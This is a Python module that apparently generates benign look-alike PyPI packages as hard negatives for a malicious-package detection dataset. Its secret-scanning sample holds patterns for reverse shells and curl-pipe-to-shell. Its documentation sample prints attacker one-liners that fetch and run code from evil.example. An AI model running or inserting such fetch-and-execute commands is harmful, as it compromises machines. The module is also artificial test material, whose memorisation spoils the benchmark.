"""Python packages that do nearly the same for honest reasons."""
import zlib

from .core import sample


def good(name, family, idea, kind=None):
    return sample("pypi", "good", name, family, idea, kind)


@good("terraform-bin-wrapper", "installer", "downloads a program when it is first used and checks the digest it carries")
def _(c):
    return {"terraform_bin_wrapper/__init__.py": "\"\"\"Runs a pinned terraform.\"\"\"\nimport hashlib\nimport io\nimport os\nimport platform\nimport subprocess\nimport sys\nimport urllib.request\nimport zipfile\nfrom pathlib import Path\n\nVERSION = \"1.9.8\"\nDIGESTS = {\"linux_amd64\": \"§HEX64§\", \"darwin_arm64\": \"" + c.hex(64) + "\"}\nBASE = os.environ.get(\"TERRAFORM_MIRROR\", \"https://releases.vendor.example/terraform\")\n\n\ndef target():\n    machine = {\"x86_64\": \"amd64\", \"aarch64\": \"arm64\"}.get(platform.machine(), platform.machine())\n    return f\"{platform.system().lower()}_{machine}\"\n\n\ndef program():\n    \"\"\"Path of the program, fetched once.\"\"\"\n    cache = Path(os.environ.get(\"XDG_CACHE_HOME\", Path.home() / \".cache\")) / \"terraform-bin\" / VERSION\n    path = cache / \"terraform\"\n    if not path.exists():\n        data = urllib.request.urlopen(f\"{BASE}/{VERSION}/terraform_{VERSION}_{target()}.zip\").read()\n        if hashlib.sha256(data).hexdigest() != DIGESTS[target()]:\n            raise RuntimeError(\"the download does not have the expected digest\")\n        cache.mkdir(parents=True, exist_ok=True)\n        zipfile.ZipFile(io.BytesIO(data)).extract(\"terraform\", cache)\n        path.chmod(0o755)\n    return path\n\n\ndef main():\n    sys.exit(subprocess.call([str(program()), *sys.argv[1:]]))\n", "@entry_points": "[console_scripts]\nterraform = terraform_bin_wrapper:main\n"}


@good("fastmath-cython", "build", "setup.py compiles an extension and asks the compiler what it can", "sdist")
def _(c):
    return {"setup.py": "import os\nimport platform\nimport subprocess\nimport sys\nimport tempfile\n\nfrom setuptools import Extension, setup\nfrom setuptools.command.build_ext import build_ext\n\n\ndef has_flag(compiler, flag):\n    with tempfile.NamedTemporaryFile(\"w\", suffix=\".c\") as f:\n        f.write(\"int main(void) { return 0; }\")\n        f.flush()\n        return subprocess.run([compiler, flag, \"-c\", f.name, \"-o\", os.devnull], stderr=subprocess.DEVNULL).returncode == 0\n\n\nclass Build(build_ext):\n    def build_extensions(self):\n        cc = self.compiler.compiler[0] if hasattr(self.compiler, \"compiler\") else \"cl\"\n        for ext in self.extensions:\n            if platform.machine() == \"x86_64\" and has_flag(cc, \"-mavx2\"):\n                ext.extra_compile_args.append(\"-mavx2\")\n        super().build_extensions()\n\n\nwith open(\"README.md\", encoding=\"utf-8\") as f:\n    text = f.read()\nversion = {}\nwith open(\"fastmath_cython/_version.py\") as f:\n    exec(f.read(), version)\nsetup(name=\"fastmath-cython\", version=version[\"__version__\"], long_description=text, ext_modules=[Extension(\"fastmath_cython._core\", [\"src/core.c\"])], cmdclass={\"build_ext\": Build}, packages=[\"fastmath_cython\"], python_requires=\">=3.9\")\n", "fastmath_cython/_version.py": "__version__ = \"2.1.0\"\n", "README.md": "# fastmath\n", "src/core.c": "#include <Python.h>\n\nstatic struct PyModuleDef def = {PyModuleDef_HEAD_INIT, \"_core\"};\nPyMODINIT_FUNC PyInit__core(void) { return PyModule_Create(&def); }\n"}


@good("vermin-versioneer", "build", "setup.py asks git for the version", "sdist")
def _(c):
    return {"setup.py": "import os\nimport subprocess\n\nfrom setuptools import setup\n\n\ndef version():\n    if os.path.exists(\"PKG-INFO\"):\n        for line in open(\"PKG-INFO\"):\n            if line.startswith(\"Version:\"):\n                return line.split()[1]\n    return subprocess.check_output([\"git\", \"describe\", \"--tags\"], text=True).strip().lstrip(\"v\")\n\n\nsetup(name=\"vermin-versioneer\", version=version(), packages=[\"vermin_versioneer\"])\n"}


@good("coverage-autostart", "pth", "a .pth file that starts coverage in child processes, as its documentation asks")
def _(c):
    return {"coverage_autostart.pth": "import os; 'COVERAGE_PROCESS_START' in os.environ and __import__('coverage_autostart').start()\n", "coverage_autostart/__init__.py": "\"\"\"Starts coverage in child processes.\"\"\"\n\n\ndef start():\n    \"\"\"Called by the .pth file.\"\"\"\n    import coverage\n    coverage.process_startup()\n"}


@good("distutils-shim", "pth", "a .pth file for compatibility, guarded by a variable")
def _(c):
    return {"distutils-shim.pth": "import os; var = 'SHIM_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('distutils_shim').add()\n", "distutils_shim/__init__.py": "import importlib.abc\nimport importlib.util\nimport sys\n\n\nclass Finder(importlib.abc.MetaPathFinder):\n    \"\"\"Finds the copy of distutils inside this package.\"\"\"\n\n    def find_spec(self, name, path=None, target=None):\n        if name == 'distutils':\n            return importlib.util.find_spec('distutils_shim._vendored')\n        return None\n\n\ndef add():\n    sys.meta_path.insert(0, Finder())\n"}


@good("namespace-acme-core", "pth", "the .pth file of an old namespace package")
def _(c):
    return {"namespace_acme_core-nspkg.pth": "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('acme',));m = sys.modules.setdefault('acme', types.ModuleType('acme'));mp = m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n", "acme/core.py": c.py()}


@good("pytest-env-report", "plugin", "a plugin of pytest that prints versions in the header")
def _(c):
    return {"@entry_points": "[pytest11]\nenv_report = pytest_env_report\n", "pytest_env_report.py": "\"\"\"Header with versions.\"\"\"\nimport os\nimport platform\n\n\ndef pytest_report_header(config):\n    lines = [f\"machine: {platform.machine()} {platform.python_version()}\"]\n    if config.getoption(\"verbose\") > 0:\n        lines += [f\"{k}={os.environ[k]}\" for k in (\"CI\", \"TOX_ENV_NAME\", \"VIRTUAL_ENV\") if k in os.environ]\n    return lines\n"}


@good("sentinel-errors", "telemetry", "sends exceptions to an address that its user sets and filters what looks secret")
def _(c):
    return {"sentinel_errors/__init__.py": "\"\"\"Error reports.\"\"\"\nimport json\nimport platform\nimport re\nimport socket\nimport sys\nimport traceback\nimport urllib.request\nfrom urllib.parse import urlsplit\n\n_HIDE = re.compile(r\"pass|secret|token|auth|key\", re.I)\n_dsn = None\n\n\ndef init(dsn, environment=\"production\"):\n    \"\"\"Nothing is sent without a DSN.\"\"\"\n    global _dsn\n    _dsn = urlsplit(dsn)\n    old = sys.excepthook\n\n    def hook(kind, value, tb):\n        capture(value, tb)\n        old(kind, value, tb)\n\n    sys.excepthook = hook\n\n\ndef scrub(data):\n    return {k: \"[filtered]\" if _HIDE.search(k) else v for k, v in data.items()}\n\n\ndef capture(error, tb=None, extra=None):\n    if _dsn is None:\n        return\n    event = {\"type\": type(error).__name__, \"text\": str(error), \"trace\": traceback.format_tb(tb or error.__traceback__), \"host\": socket.gethostname(), \"python\": platform.python_version(), \"extra\": scrub(extra or {})}\n    request = urllib.request.Request(f\"{_dsn.scheme}://{_dsn.hostname}/api{_dsn.path}/store/\", json.dumps(event).encode(), {\"X-Report-Auth\": f\"key={_dsn.username}\"})\n    try:\n        urllib.request.urlopen(request, timeout=2)\n    except OSError:\n        pass\n"}


@good("usage-optout-cli", "telemetry", "counts commands, prints that it does so and how to turn it off")
def _(c):
    return {"usage_optout_cli/__init__.py": "\"\"\"Counts commands. Set DO_NOT_TRACK=1 to turn it off.\"\"\"\nimport json\nimport os\nimport platform\nimport threading\nimport urllib.request\nimport uuid\nfrom pathlib import Path\n\n_FILE = Path.home() / \".config\" / \"usage-optout.json\"\n\n\ndef enabled():\n    return not any(os.environ.get(k) for k in (\"DO_NOT_TRACK\", \"CI\", \"USAGE_DISABLED\"))\n\n\ndef _id():\n    if _FILE.exists():\n        return json.loads(_FILE.read_text())[\"id\"]\n    _FILE.parent.mkdir(parents=True, exist_ok=True)\n    print(\"Anonymous counts are sent. DO_NOT_TRACK=1 turns this off.\")\n    value = str(uuid.uuid4())\n    _FILE.write_text(json.dumps({\"id\": value}))\n    return value\n\n\ndef count(command):\n    if not enabled():\n        return\n    body = {\"id\": _id(), \"command\": command, \"os\": platform.system(), \"python\": platform.python_version()}\n    request = urllib.request.Request(\"https://stats.vendor.example/v1/count\", json.dumps(body).encode(), {\"Content-Type\": \"application/json\"})\n    threading.Thread(target=lambda: urllib.request.urlopen(request, timeout=1), daemon=True).start()\n"}


@good("browser-driver-manager", "installer", "finds out which browser is installed and fetches the driver that fits")
def _(c):
    return {"browser_driver_manager/__init__.py": "\"\"\"Drivers for browsers.\"\"\"\nimport os\nimport re\nimport shutil\nimport subprocess\nimport sys\nfrom pathlib import Path\n\nimport requests\n\n\ndef browser_version():\n    for name in (\"google-chrome\", \"chromium\", \"chromium-browser\"):\n        path = shutil.which(name)\n        if path:\n            out = subprocess.run([path, \"--version\"], capture_output=True, text=True, check=True).stdout\n            return re.search(r\"\\d+(\\.\\d+)+\", out)[0]\n    if sys.platform == \"win32\":\n        import winreg\n        with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r\"Software\\Google\\Chrome\\BLBeacon\") as key:\n            return winreg.QueryValueEx(key, \"version\")[0]\n    raise RuntimeError(\"no browser found\")\n\n\ndef install(folder=None):\n    folder = Path(folder or Path.home() / \".wdm\")\n    version = browser_version()\n    answer = requests.get(f\"https://drivers.example/{version}/driver.zip\", timeout=30)\n    answer.raise_for_status()\n    folder.mkdir(parents=True, exist_ok=True)\n    (folder / \"driver.zip\").write_bytes(answer.content)\n    shutil.unpack_archive(folder / \"driver.zip\", folder)\n    os.chmod(folder / \"driver\", 0o755)\n    return folder / \"driver\"\n"}


@good("keyring-files", "keychain", "keeps passwords encrypted in a file of the user")
def _(c):
    return {"keyring_files/__init__.py": "\"\"\"A keyring in a file.\"\"\"\nimport base64\nimport getpass\nimport json\nimport os\nfrom pathlib import Path\n\nfrom cryptography.fernet import Fernet\nfrom cryptography.hazmat.primitives.kdf.scrypt import Scrypt\n\n\nclass Keyring:\n    def __init__(self, path=Path.home() / \".local/share/keyring-files.json\"):\n        self.path = path\n        self.data = json.loads(path.read_text()) if path.exists() else {\"salt\": base64.b64encode(os.urandom(16)).decode()}\n\n    def _box(self):\n        key = Scrypt(salt=base64.b64decode(self.data[\"salt\"]), length=32, n=2**15, r=8, p=1).derive(getpass.getpass(\"Password of the keyring: \").encode())\n        return Fernet(base64.urlsafe_b64encode(key))\n\n    def get_password(self, service, user):\n        text = self.data.get(f\"{service}/{user}\")\n        return text and self._box().decrypt(text.encode()).decode()\n\n    def set_password(self, service, user, password):\n        self.data[f\"{service}/{user}\"] = self._box().encrypt(password.encode()).decode()\n        self.path.parent.mkdir(parents=True, exist_ok=True)\n        self.path.write_text(json.dumps(self.data))\n        self.path.chmod(0o600)\n"}


@good("paramiko-simple", "ssh", "runs commands on hosts its caller names, with the keys of the user")
def _(c):
    return {"paramiko_simple/__init__.py": "\"\"\"Commands over SSH.\"\"\"\nimport os\nfrom contextlib import contextmanager\n\nimport paramiko\n\n\n@contextmanager\ndef connect(host, user=None, key=None, port=22):\n    client = paramiko.SSHClient()\n    client.load_system_host_keys()\n    client.set_missing_host_key_policy(paramiko.RejectPolicy())\n    client.connect(host, port=port, username=user, key_filename=os.path.expanduser(key or \"~/.ssh/id_ed25519\"))\n    try:\n        yield client\n    finally:\n        client.close()\n\n\ndef run(client, command):\n    _, out, err = client.exec_command(command)\n    status = out.channel.recv_exit_status()\n    if status:\n        raise RuntimeError(err.read().decode())\n    return out.read().decode()\n"}


@good("awscreds-chain", "cloud-sdk", "reads the credentials file of the user and signs requests")
def _(c):
    return {"awscreds_chain/__init__.py": "\"\"\"Credentials and signatures.\"\"\"\nimport configparser\nimport datetime\nimport hashlib\nimport hmac\nimport os\nfrom pathlib import Path\n\n\ndef load(profile=\"default\"):\n    if \"AWS_ACCESS_KEY_ID\" in os.environ:\n        return os.environ[\"AWS_ACCESS_KEY_ID\"], os.environ[\"AWS_SECRET_ACCESS_KEY\"]\n    ini = configparser.ConfigParser()\n    ini.read(Path(os.environ.get(\"AWS_SHARED_CREDENTIALS_FILE\", Path.home() / \".aws/credentials\")))\n    return ini[profile][\"aws_access_key_id\"], ini[profile][\"aws_secret_access_key\"]\n\n\ndef _hmac(key, text):\n    return hmac.new(key, text.encode(), hashlib.sha256).digest()\n\n\ndef signing_key(secret, region, service, now=None):\n    day = (now or datetime.datetime.now(datetime.timezone.utc)).strftime(\"%Y%m%d\")\n    key = _hmac((\"AWS4\" + secret).encode(), day)\n    for part in (region, service, \"aws4_request\"):\n        key = _hmac(key, part)\n    return key\n", "README.md": "# awscreds\n\n```ini\naws_access_key_id = AKIA" + "IOSFODNN7EXAMPLE\n```\n"}


@good("telebot-mini", "webhook", "a client for bots: the token comes from its caller")
def _(c):
    return {"telebot_mini/__init__.py": "\"\"\"A small client for Telegram bots.\"\"\"\nimport os\n\nimport requests\n\n\nclass Bot:\n    def __init__(self, token=None, server=\"https://api.telegram.example\"):\n        self.base = f\"{server}/bot{token or os.environ['TELEGRAM_TOKEN']}\"\n\n    def call(self, method, **data):\n        answer = requests.post(f\"{self.base}/{method}\", json=data, timeout=30).json()\n        if not answer[\"ok\"]:\n            raise RuntimeError(answer[\"description\"])\n        return answer[\"result\"]\n\n    def send(self, chat_id, text):\n        return self.call(\"sendMessage\", chat_id=chat_id, text=text)\n\n    def send_document(self, chat_id, path):\n        with open(path, \"rb\") as f:\n            return requests.post(f\"{self.base}/sendDocument\", data={\"chat_id\": chat_id}, files={\"document\": f}, timeout=60).json()\n"}


@good("rich-repl-server", "code-generation", "a console over a local socket for debugging")
def _(c):
    return {"rich_repl_server/__init__.py": "\"\"\"A console inside a running program, for localhost.\"\"\"\nimport code\nimport io\nimport socketserver\nimport sys\nfrom contextlib import redirect_stdout\n\n\nclass Handler(socketserver.StreamRequestHandler):\n    def handle(self):\n        console = code.InteractiveConsole(self.server.context)\n        for line in self.rfile:\n            out = io.StringIO()\n            with redirect_stdout(out):\n                console.push(line.decode().rstrip(\"\\n\"))\n            self.wfile.write(out.getvalue().encode() + b\">>> \")\n\n\ndef serve(context=None, port=0):\n    server = socketserver.TCPServer((\"127.0.0.1\", port), Handler)\n    server.context = context if context is not None else sys.modules[\"__main__\"].__dict__\n    return server\n"}


@good("namedtuple-gen", "code-generation", "makes classes by executing text that it writes itself")
def _(c):
    return {"namedtuple_gen/__init__.py": "\"\"\"Fast records.\"\"\"\nfrom keyword import iskeyword\n\n_TEMPLATE = '''class {name}:\n    __slots__ = {fields!r}\n\n    def __init__(self, {args}):\n{body}\n\n    def __repr__(self):\n        return \"{name}(\" + \", \".join(f\"{{k}}={{getattr(self, k)!r}}\" for k in self.__slots__) + \")\"\n'''\n\n\ndef record(name, fields):\n    fields = tuple(fields.split())\n    for f in (name, *fields):\n        if not f.isidentifier() or iskeyword(f):\n            raise ValueError(f\"`{f}` is no name\")\n    text = _TEMPLATE.format(name=name, fields=fields, args=\", \".join(fields), body=\"\\n\".join(f\"        self.{f} = {f}\" for f in fields))\n    scope = {}\n    exec(compile(text, f\"<record {name}>\", \"exec\"), scope)\n    return scope[name]\n"}


@good("pickle-cache", "pickle", "a cache on disk which signs what it stores")
def _(c):
    return {"pickle_cache/__init__.py": "\"\"\"A signed cache.\"\"\"\nimport hashlib\nimport hmac\nimport pickle\nfrom pathlib import Path\n\n\nclass Cache:\n    def __init__(self, folder, secret):\n        self.folder = Path(folder)\n        self.secret = secret\n\n    def get(self, key):\n        raw = (self.folder / hashlib.sha256(key.encode()).hexdigest()).read_bytes()\n        tag, body = raw[:32], raw[32:]\n        if not hmac.compare_digest(tag, hmac.new(self.secret, body, hashlib.sha256).digest()):\n            raise ValueError(\"the entry was changed\")\n        return pickle.loads(body)\n\n    def put(self, key, value):\n        body = pickle.dumps(value)\n        self.folder.mkdir(parents=True, exist_ok=True)\n        (self.folder / hashlib.sha256(key.encode()).hexdigest()).write_bytes(hmac.new(self.secret, body, hashlib.sha256).digest() + body)\n"}


@good("zipped-tables", "data", "tables as compressed base64, unpacked into lists")
def _(c):
    return {"zipped_tables/__init__.py": f"\"\"\"Tables of characters.\"\"\"\nimport base64\nimport json\nimport zlib\n\n_DATA = \"{c.deflated('[' + ','.join(str(c.r.randrange(0x10000)) for _ in range(400)) + ']')}\"\nTABLE = json.loads(zlib.decompress(base64.b64decode(_DATA)))\n\n\ndef width(ch):\n    return 2 if ord(ch) in TABLE else 1\n"}


@good("clipboard-history", "clipboard", "a history of the clipboard, kept in a database of the user")
def _(c):
    return {"clipboard_history/__init__.py": "\"\"\"Remembers what was copied.\"\"\"\nimport sqlite3\nimport time\nfrom pathlib import Path\n\nimport pyperclip\n\n\ndef watch(database=Path.home() / \".local/share/clipboard.db\", every=1.0):\n    db = sqlite3.connect(database)\n    db.execute(\"create table if not exists entries (at real, text text)\")\n    last = None\n    while True:\n        text = pyperclip.paste()\n        if text != last:\n            db.execute(\"insert into entries values (?, ?)\", (time.time(), text))\n            db.commit()\n            last = text\n        time.sleep(every)\n", "@entry_points": "[console_scripts]\nclipboard-history = clipboard_history:watch\n"}


@good("hotkey-macros", "keyboard", "global shortcuts on top of a listener for keys; nothing is stored")
def _(c):
    return {"hotkey_macros/__init__.py": "\"\"\"Runs functions on shortcuts.\"\"\"\nfrom pynput import keyboard\n\n\nclass Macros:\n    def __init__(self):\n        self.actions = {}\n\n    def on(self, combination):\n        def put(action):\n            self.actions[combination] = action\n            return action\n        return put\n\n    def run(self):\n        with keyboard.GlobalHotKeys(self.actions) as listener:\n            listener.join()\n"}


@good("ctypes-winclip", "ctypes", "calls functions of the system to read the clipboard")
def _(c):
    return {"ctypes_winclip/__init__.py": "\"\"\"The clipboard of Windows.\"\"\"\nimport ctypes\nfrom ctypes import wintypes\n\nCF_UNICODETEXT = 13\n\n\ndef paste():\n    user32, kernel32 = ctypes.windll.user32, ctypes.windll.kernel32\n    user32.GetClipboardData.restype = wintypes.HANDLE\n    kernel32.GlobalLock.restype = ctypes.c_void_p\n    if not user32.OpenClipboard(None):\n        raise OSError(\"the clipboard is busy\")\n    try:\n        handle = user32.GetClipboardData(CF_UNICODETEXT)\n        if not handle:\n            return \"\"\n        at = kernel32.GlobalLock(handle)\n        try:\n            return ctypes.wstring_at(at)\n        finally:\n            kernel32.GlobalUnlock(handle)\n    finally:\n        user32.CloseClipboard()\n"}


@good("bashrc-env-manager", "shell-rc", "init prints a line for the start file of the shell and only writes it with a flag")
def _(c):
    return {"bashrc_env_manager/__init__.py": "\"\"\"Environments by folder.\"\"\"\nimport argparse\nimport os\nfrom pathlib import Path\n\nLINE = 'eval \"$(envman hook bash)\"'\n\n\ndef main():\n    parser = argparse.ArgumentParser()\n    parser.add_argument(\"command\", choices=[\"init\", \"hook\"])\n    parser.add_argument(\"shell\", default=\"bash\", nargs=\"?\")\n    parser.add_argument(\"--write\", action=\"store_true\", help=\"append the line to ~/.bashrc\")\n    args = parser.parse_args()\n    if args.command == \"hook\":\n        print('_envman() { [ -f .envman ] && . ./.envman; }; PROMPT_COMMAND=\"_envman;$PROMPT_COMMAND\"')\n    elif args.write:\n        rc = Path(os.path.expanduser(\"~/.bashrc\"))\n        if LINE not in rc.read_text():\n            with rc.open(\"a\") as f:\n                f.write(f\"\\n{LINE}\\n\")\n    else:\n        print(f\"Add this to ~/.bashrc:\\n  {LINE}\")\n", "@entry_points": "[console_scripts]\nenvman = bashrc_env_manager:main\n"}


@good("systemd-user-service", "service", "writes a unit for the program of its caller when asked to")
def _(c):
    return {"systemd_user_service/__init__.py": "\"\"\"Units for your own programs.\"\"\"\nimport subprocess\nfrom pathlib import Path\n\nUNIT = \"[Unit]\\nDescription={description}\\n\\n[Service]\\nExecStart={command}\\nRestart=on-failure\\n\\n[Install]\\nWantedBy=default.target\\n\"\n\n\ndef install(name, command, description=\"\"):\n    path = Path.home() / \".config/systemd/user\" / f\"{name}.service\"\n    path.parent.mkdir(parents=True, exist_ok=True)\n    path.write_text(UNIT.format(description=description or name, command=command))\n    subprocess.run([\"systemctl\", \"--user\", \"daemon-reload\"], check=True)\n    return path\n\n\ndef enable(name):\n    subprocess.run([\"systemctl\", \"--user\", \"enable\", \"--now\", name], check=True)\n"}


@good("secret-scan-rules", "rules", "patterns of tokens, for finding them; the word eval is in its rules too")
def _(c):
    return {"secret_scan_rules/__init__.py": "\"\"\"Finds secrets in text.\"\"\"\nimport re\n\nRULES = {\n    \"aws\": re.compile(r\"\\bAKIA[0-9A-Z]{16}\\b\"),\n    \"github\": re.compile(r\"\\bgh[pousr]_[0-9A-Za-z]{36}\\b\"),\n    \"private key\": re.compile(r\"-----BEGIN (?:RSA |EC )?PRIVATE KEY-----\"),\n    \"python exec\": re.compile(r\"exec\\(base64\\.b64decode\\(\"),\n    \"curl pipe\": re.compile(r\"curl [^|]*\\| *(?:ba)?sh\"),\n    \"reverse shell\": re.compile(r\"/dev/tcp/\\S+/\\d+\"),\n}\n\n\ndef scan(text):\n    return [(name, m.start()) for name, rule in RULES.items() for m in rule.finditer(text)]\n"}


@good("docs-cheatsheet", "docs", "documentation that shows what not to do", "sdist")
def _(c):
    return {"docs/security.md": "# What attackers write\n\n```python\nexec(__import__('urllib.request').request.urlopen('http://evil.example/x').read())\nos.system('curl http://evil.example | sh')\n```\n\nNever install such a thing. A `.pth` file with `import os; os.system(...)` runs at each start.\n", "docs_cheatsheet/__init__.py": c.py()}


@good("memfd-shm-linux", "memory", "shared memory by a nameless file, for arrays")
def _(c):
    return {"memfd_shm_linux/__init__.py": "\"\"\"Arrays shared between processes.\"\"\"\nimport mmap\nimport os\n\n\nclass Shared:\n    def __init__(self, size):\n        self.fd = os.memfd_create(\"shared-array\", os.MFD_CLOEXEC)\n        os.ftruncate(self.fd, size)\n        self.map = mmap.mmap(self.fd, size)\n\n    def close(self):\n        self.map.close()\n        os.close(self.fd)\n"}
